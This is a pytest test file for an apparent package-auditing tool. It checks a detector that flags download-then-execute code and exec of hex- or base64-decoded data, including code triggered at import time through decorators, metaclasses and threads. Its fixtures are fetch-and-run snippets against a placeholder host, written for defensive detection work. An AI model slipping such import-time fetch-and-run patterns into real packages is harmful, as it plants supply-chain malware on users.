"""What the calls of a module do together, as a summary of the module."""

from __future__ import annotations

import pytest

from pkgaudit.api import ArchiveKind, Entry, EntryType, Member, PythonFile, Window
from pkgaudit.rules.behaviour.flows import Flow, read_behavior


def python(source: str, path: str = "sample/run.py") -> PythonFile:
    data = source.encode()
    return PythonFile(Member(Entry(path, EntryType.FILE, len(data)), ArchiveKind.WHEEL), Window(data))


def flows(source: str, path: str = "sample/run.py") -> tuple[Flow, ...]:
    found = read_behavior(python(source, path))
    return found.flows if found is not None else ()


@pytest.mark.parametrize(
    "source",
    [
        "def execute(x):\n    return retrieval(x)\nimport base64\n",
        "import socket\n",
        "import subprocess\nsubprocess.run(['true'])\n",
        "model.eval()\nimport zlib\nzlib.decompress(b'')\n",
        "x = ['Toast.com', 'https://ngrok.com/']\n",
    ],
)
def test_a_module_without_the_words_is_not_parsed(source: str) -> None:
    file = python(source)
    assert read_behavior(file) is None
    assert "_parsed" not in vars(file)


def test_stubs_are_not_read() -> None:
    source = "exec(bytes.fromhex(''))\n"
    assert len(flows(source)) == 1
    assert flows(source, "sample/run.pyi") == ()


def test_invalid_source() -> None:
    assert flows("exec(bytes.fromhex('')\n") == ()


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("a = b\nb = a\nexec(a)\nx = bytes.fromhex\n", 0),
        ("x = [" + "1," * 5_000 + "bytes.fromhex('')]\nexec(x)\n", 0),
        ("exec(bytes.fromhex(''))\n" * 100, 20),
        ("x = bytes.fromhex('')\na = x\nb = a\nexec(b)\n", 1),
        ("x = bytes.fromhex('')\na = x\nb = a\nc = b\nexec(c)\n", 0),
    ],
    ids=["circle", "table", "many", "three steps", "four steps"],
)
def test_work_is_bounded(source: str, found: int) -> None:
    assert len(flows(source)) == found


RUN = "import urllib.request as u\nimport subprocess, threading\n"
BODY = "    u.urlretrieve('https://files.example/x', 'x')\n    subprocess.run(['./x'])\n"


@pytest.mark.parametrize(
    ("source", "runs"),
    [
        (f"def f():\n{BODY}f()\n", True),
        (f"def f():\n{BODY}def g(): f()\ng()\n", True),
        (f"def f():\n{BODY}class C:\n    x = f()\n", True),
        (f"class C:\n  def __init__(self):\n{BODY}C()\n", True),
        (f"def f():\n{BODY}threading.Thread(target=f).start()\n", True),
        (f"def f():\n{BODY}threading.Timer(1.0, function=f).start()\n", True),
        (f"def f():\n{BODY}", False),
        (f"def f():\n{BODY}if __name__ == '__main__':\n    f()\n", False),
        (f"def f():\n{BODY}def g(): f()\n", False),
        (f"class C:\n  def f(self):\n{BODY}def f(): ...\nf()\n", False),
        (f"def f():\n{BODY}g = threading.Thread\n", False),
        (f"def f(g):\n{BODY}    return g\n@f\ndef h(): ...\n", True),
        (f"def f(g):\n{BODY}    return g\n@f\nclass C: ...\n", True),
        (f"def f(g):\n  def h():\n{BODY}  return h\n@f\ndef k(): ...\n", False),
        (f"class C:\n  def __init_subclass__(cls):\n{BODY}class D(C): ...\n", True),
        (f"class C:\n  def __init_subclass__(cls):\n{BODY}", False),
        (f"class M(type):\n  def __new__(cls, *a):\n{BODY}class C(metaclass=M): ...\n", True),
        (f"class C:\n  def __set_name__(self, owner, name):\n{BODY}class D:\n  x = C()\n", True),
        (f"class C:\n  def __enter__(self):\n{BODY}with C(): ...\n", True),
        (f"class C:\n  def __enter__(self):\n{BODY}C()\n", False),
        (f"class C:\n  def f(self):\n{BODY}C().f()\n", True),
        (f"class C:\n  def f():\n{BODY}C.f()\n", True),
        (f"class C:\n  def f(self):\n{BODY}c = C()\nc.f()\n", True),
        (f"class C:\n  def f(self):\n{BODY}c = C()\n", False),
        (f"class C:\n  def f(self):\n{BODY}c = C()\nc = other()\nc.f()\n", False),
        (f"class C:\n  def __call__(self):\n{BODY}C()()\n", True),
        (f"def f(x):\n{BODY}list(map(f, [1]))\n", True),
        (f"def f():\n{BODY}functools.partial(f)()\n", True),
        (f"def f():\n{BODY}g = functools.partial(f)\n", False),
        (f"def f():\n{BODY}g = f\ng()\n", True),
        (f"TYPE_CHECKING = 1\nif TYPE_CHECKING:\n{BODY}", True),
        (f"TYPE_CHECKING = False\nif TYPE_CHECKING:\n{BODY}", False),
    ],
)
def test_code_that_an_import_runs(source: str, runs: bool) -> None:
    [flow] = flows(RUN + source)
    assert (flow.kind, flow.at_import) == ("download", runs)


def test_names_of_a_scope() -> None:
    """A name means what its own scope makes of it."""
    source = (
        "import base64\n"
        "def f(base64):\n    exec(base64.b64decode(''))\n"
        "def g():\n    from base64 import b64decode as run\n    exec(run(''))\n"
        "def h(run):\n    exec(run(''))\n"
    )
    assert [(each.line, each.source) for each in flows(source)] == [(6, "base64.b64decode")]
